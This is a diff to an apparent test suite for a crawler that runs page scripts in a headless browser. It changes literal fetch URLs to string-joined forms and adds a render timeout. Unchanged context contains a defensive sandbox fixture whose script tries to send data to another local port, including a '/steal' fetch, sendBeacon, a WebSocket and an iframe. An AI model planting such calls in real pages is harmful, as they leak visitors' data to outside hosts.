@@ -62,7 +62,7 @@ def read(db: Path, told: dict[str, Any], url: str) -> PageReading:
 
 @browser
 def test_a_list_filled_by_a_get_is_read_and_its_entries_are_crawled(tmp_path: Path) -> None:
-    with Site(pages("const r=fetch('/api/list?page=1');" + SHOW)) as site:
+    with Site(pages("const r=fetch(['','api','list?page=1'].join('/'));" + SHOW)) as site:
         told = crawled(site, tmp_path / "x.db")
         reading = read(tmp_path / "x.db", told, site.url + LIST)
     assert [i.title for i in reading.items] == [row["t"] for row in ROWS]
@@ -81,7 +81,7 @@ def test_a_script_reaches_no_other_port_of_this_machine(tmp_path: Path) -> None:
             f"fetch('{other.url}/steal',{{mode:'no-cors'}}).catch(()=>0);new Image().src='{other.url}/i.png';"
             f"new WebSocket('ws://{host}/w');navigator.sendBeacon('{other.url}/b','x');"
             f"document.write(\"<iframe src='{other.url}/f'></iframe>\");window.open('{other.url}/o');"
-            "const r=fetch('/api/list');"
+            "const r=fetch(['','api','list'].join('/'));"
         )
         with Site(pages(script + SHOW)) as site:
             told = crawled(site, tmp_path / "x.db")
@@ -93,7 +93,7 @@ def test_a_script_reaches_no_other_port_of_this_machine(tmp_path: Path) -> None:
 
 @browser
 def test_a_list_that_asks_by_post_is_refused_and_stays_unread(tmp_path: Path) -> None:
-    with Site(pages("const r=fetch('/api/list',{method:'POST'});" + SHOW)) as site:
+    with Site(pages("const r=fetch(['','api','list'].join('/'),{method:'POST'});" + SHOW)) as site:
         told = crawled(site, tmp_path / "x.db")
         reading = read(tmp_path / "x.db", told, site.url + LIST)
     assert reading.render_refused == (f"method POST {site.url}/api/list",)
@@ -104,7 +104,7 @@ def test_a_list_that_asks_by_post_is_refused_and_stays_unread(tmp_path: Path) ->
 @browser
 def test_a_script_without_end_is_stopped_and_the_crawl_goes_on(tmp_path: Path) -> None:
     with Site(pages("while(true){}")) as site:
-        told = crawled(site, tmp_path / "x.db")
+        told = crawled(site, tmp_path / "x.db", settings={"crawl.render_seconds": 2})
         reading = read(tmp_path / "x.db", told, site.url + LIST)
     assert told["run"]["finish_reason"] == "finished"
     assert reading.rendered == ""
@@ -113,7 +113,7 @@ def test_a_script_without_end_is_stopped_and_the_crawl_goes_on(tmp_path: Path) -
 
 def test_without_a_browser_the_page_stays_as_it_came(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("GONGKAI_CHROMIUM", "no-such-browser")
-    with Site(pages("const r=fetch('/api/list');" + SHOW)) as site:
+    with Site(pages("const r=fetch(['','api','list'].join('/'));" + SHOW)) as site:
         told = crawled(site, tmp_path / "x.db")
         reading = read(tmp_path / "x.db", told, site.url + LIST)
     assert reading.rendered == ""
@@ -122,7 +122,7 @@ def test_without_a_browser_the_page_stays_as_it_came(tmp_path: Path, monkeypatch
 
 
 def test_a_site_that_forbids_rendering_starts_no_browser(tmp_path: Path) -> None:
-    with Site(pages("const r=fetch('/api/list');" + SHOW)) as site:
+    with Site(pages("const r=fetch(['','api','list'].join('/'));" + SHOW)) as site:
         crawled(site, tmp_path / "x.db", render="never")
     assert site.count(LIST) == 1
     assert site.count("/api/list") == 0
